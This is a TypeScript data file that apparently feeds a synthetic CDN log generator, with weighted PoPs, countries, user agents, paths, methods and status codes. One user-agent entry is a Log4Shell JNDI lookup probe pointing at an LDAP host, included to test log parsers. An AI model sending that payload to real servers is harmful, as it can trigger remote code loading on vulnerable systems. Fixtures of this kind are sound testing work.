/**
 * The words synthetic traffic is made of: points of presence, countries, user agents, paths and their
 * content types, with weights that make the mix look like a small website behind a CDN. The values
 * deliberately include what breaks naive parsers: spaces, commas, parentheses and a double quote in
 * user agents, spaces in data-centre names, IPv6 clients, and a Log4Shell probe (`${jndi:…}`).
 */

import { WeightedChoice } from './random';

export interface PointOfPresence {
  iata: string;
  gcoreDatacenter: string;
}

const POP = {
  FRA: { iata: 'FRA', gcoreDatacenter: 'Frankfurt' },
  AMS: { iata: 'AMS', gcoreDatacenter: 'Amsterdam' },
  LHR: { iata: 'LHR', gcoreDatacenter: 'London' },
  CDG: { iata: 'CDG', gcoreDatacenter: 'Paris' },
  WAW: { iata: 'WAW', gcoreDatacenter: 'Warsaw' },
  IAD: { iata: 'IAD', gcoreDatacenter: 'Ashburn' },
  LAX: { iata: 'LAX', gcoreDatacenter: 'Los Angeles' },
  GRU: { iata: 'GRU', gcoreDatacenter: 'Sao Paulo' },
  HKG: { iata: 'HKG', gcoreDatacenter: 'Hong Kong' },
  SIN: { iata: 'SIN', gcoreDatacenter: 'Singapore' },
  NRT: { iata: 'NRT', gcoreDatacenter: 'Tokyo' },
  ICN: { iata: 'ICN', gcoreDatacenter: 'Seoul' },
  SYD: { iata: 'SYD', gcoreDatacenter: 'Sydney' },
  JNB: { iata: 'JNB', gcoreDatacenter: 'Johannesburg' },
  DXB: { iata: 'DXB', gcoreDatacenter: 'Dubai' },
} satisfies Record<string, PointOfPresence>;

export const POINTS_OF_PRESENCE: readonly PointOfPresence[] = Object.values(POP);

/** Where clients are and which PoP serves them. */
export const CLIENT_LOCATIONS = new WeightedChoice<{ country: string; pop: PointOfPresence }>([
  [{ country: 'DE', pop: POP.FRA }, 14],
  [{ country: 'US', pop: POP.IAD }, 12],
  [{ country: 'US', pop: POP.LAX }, 8],
  [{ country: 'GB', pop: POP.LHR }, 8],
  [{ country: 'FR', pop: POP.CDG }, 6],
  [{ country: 'NL', pop: POP.AMS }, 4],
  [{ country: 'PL', pop: POP.WAW }, 3],
  [{ country: 'BR', pop: POP.GRU }, 5],
  [{ country: 'HK', pop: POP.HKG }, 3],
  [{ country: 'CN', pop: POP.HKG }, 2],
  [{ country: 'SG', pop: POP.SIN }, 3],
  [{ country: 'IN', pop: POP.SIN }, 5],
  [{ country: 'JP', pop: POP.NRT }, 5],
  [{ country: 'KR', pop: POP.ICN }, 4],
  [{ country: 'AU', pop: POP.SYD }, 3],
  [{ country: 'ZA', pop: POP.JNB }, 2],
  [{ country: 'AE', pop: POP.DXB }, 2],
  [{ country: 'CA', pop: POP.IAD }, 3],
  [{ country: 'ES', pop: POP.CDG }, 2],
  [{ country: 'IT', pop: POP.FRA }, 2],
]);

/** First octets of public IPv4 space the clients come from. */
export const IPV4_FIRST_OCTETS = [
  31, 37, 45, 62, 77, 81, 89, 91, 94, 104, 109, 141, 151, 176, 178, 185, 188, 193, 195, 203, 212, 213, 217,
] as const;

export const USER_AGENTS = new WeightedChoice<string>([
  ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36', 28],
  ['Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1', 16],
  ['Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36', 14],
  ['Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15', 10],
  ['Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0', 6],
  ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0', 6],
  ['curl/8.5.0', 5],
  ['Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', 4],
  ['Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)', 2],
  ['python-requests/2.32.3', 3],
  ['Go-http-client/2.0', 2],
  ['Mozilla/5.0 (compatible; "Acme Uptime" monitor, v2.1; +https://status.example.org/bot)', 2],
  ['${jndi:ldap://198.51.100.23:1389/Exploit}', 1],
]);

export const REFERERS = [
  'https://www.google.com/',
  'https://www.bing.com/',
  'https://duckduckgo.com/',
  'https://t.co/Xk3vPq9',
  'https://news.ycombinator.com/item?id=41234567',
] as const;

export const QUERY_TEMPLATES: ReadonlyArray<(n: number, word: string) => string> = [
  (n) => `id=${n}&sort=asc`,
  (n, word) => `q=${word}&page=${(n % 9) + 1}`,
  (n) => `v=${n.toString(16)}`,
  (n, word) => `utm_source=newsletter&utm_medium=email&utm_campaign=${word}`,
  (n) => `w=${(n % 4) * 320 + 320}&h=480&fit=cover`,
];

export const WORDS = ['shoes', 'winter', 'sale', 'blue', 'laptop', 'coffee', 'garden', 'release'] as const;

export type PathKind = 'page' | 'script' | 'style' | 'image' | 'font' | 'api' | 'video' | 'download' | 'misc';

export interface PathShape {
  kind: PathKind;
  /** Builds a path from a random integer. */
  path: (n: number) => string;
  contentType: string;
  /** Dynamic paths are not cached: DYNAMIC or BYPASS. */
  cacheable: boolean;
  /** Large media is fetched in ranges (206). */
  ranged: boolean;
  bodyBytes: readonly [number, number];
}

/** Paths a GET or HEAD asks for. */
export const READ_PATHS = new WeightedChoice<PathShape>([
  [{ kind: 'page', path: (n) => ['/', '/about', `/blog/post-${n % 50}`, `/products/${n % 500}`][n % 4], contentType: 'text/html; charset=utf-8', cacheable: true, ranged: false, bodyBytes: [4_000, 90_000] }, 18],
  [{ kind: 'script', path: (n) => `/static/js/app.${(n * 2654435761 >>> 0).toString(16)}.js`, contentType: 'application/javascript', cacheable: true, ranged: false, bodyBytes: [20_000, 400_000] }, 12],
  [{ kind: 'style', path: (n) => `/static/css/main.${(n * 40503 >>> 0).toString(16)}.css`, contentType: 'text/css', cacheable: true, ranged: false, bodyBytes: [5_000, 60_000] }, 8],
  [{ kind: 'image', path: (n) => (n % 3 === 0 ? `/img/products/${n % 900}.webp` : `/img/${n % 2000}.webp`), contentType: 'image/webp', cacheable: true, ranged: false, bodyBytes: [2_000, 300_000] }, 30],
  [{ kind: 'font', path: () => '/fonts/inter-var.woff2', contentType: 'font/woff2', cacheable: true, ranged: false, bodyBytes: [48_000, 48_000] }, 3],
  [{ kind: 'api', path: (n) => [`/api/v1/items/${n % 10_000}`, '/api/v1/search', '/api/v1/session'][n % 3], contentType: 'application/json', cacheable: false, ranged: false, bodyBytes: [80, 20_000] }, 12],
  [{ kind: 'video', path: (n) => `/video/${n % 40}/seg-${n % 600}.ts`, contentType: 'video/mp2t', cacheable: true, ranged: true, bodyBytes: [200_000, 2_000_000] }, 8],
  [{ kind: 'download', path: (n) => `/downloads/release-1.${n % 12}.zip`, contentType: 'application/zip', cacheable: true, ranged: true, bodyBytes: [1_000_000, 50_000_000] }, 2],
  [{ kind: 'misc', path: (n) => ['/favicon.ico', '/robots.txt', '/sitemap.xml'][n % 3], contentType: 'text/plain; charset=utf-8', cacheable: true, ranged: false, bodyBytes: [100, 4_000] }, 7],
]);

/** Paths a POST, PUT, PATCH, DELETE or OPTIONS goes to. */
export const WRITE_PATH: PathShape = {
  kind: 'api',
  path: (n) => [`/api/v1/items/${n % 10_000}`, '/api/v1/cart', '/api/v1/session', '/api/v1/events'][n % 4],
  contentType: 'application/json',
  cacheable: false,
  ranged: false,
  bodyBytes: [20, 4_000],
};

export const METHODS = new WeightedChoice<string>([
  ['GET', 82],
  ['HEAD', 5],
  ['POST', 7],
  ['OPTIONS', 3],
  ['PUT', 1.5],
  ['DELETE', 0.8],
  ['PATCH', 0.7],
]);

export const ERROR_AND_REDIRECT_STATUSES = new WeightedChoice<number>([
  [301, 15],
  [302, 15],
  [400, 10],
  [403, 10],
  [404, 35],
  [429, 5],
  [499, 5],
  [500, 5],
  [502, 3],
  [503, 3],
  [504, 2],
]);

export const STATIC_CACHE_STATUSES = new WeightedChoice<'HIT' | 'MISS' | 'EXPIRED' | 'STALE' | 'UPDATING' | 'REVALIDATED' | 'BYPASS'>([
  ['HIT', 70],
  ['MISS', 14],
  ['EXPIRED', 5],
  ['STALE', 2],
  ['UPDATING', 2],
  ['REVALIDATED', 4],
  ['BYPASS', 3],
]);
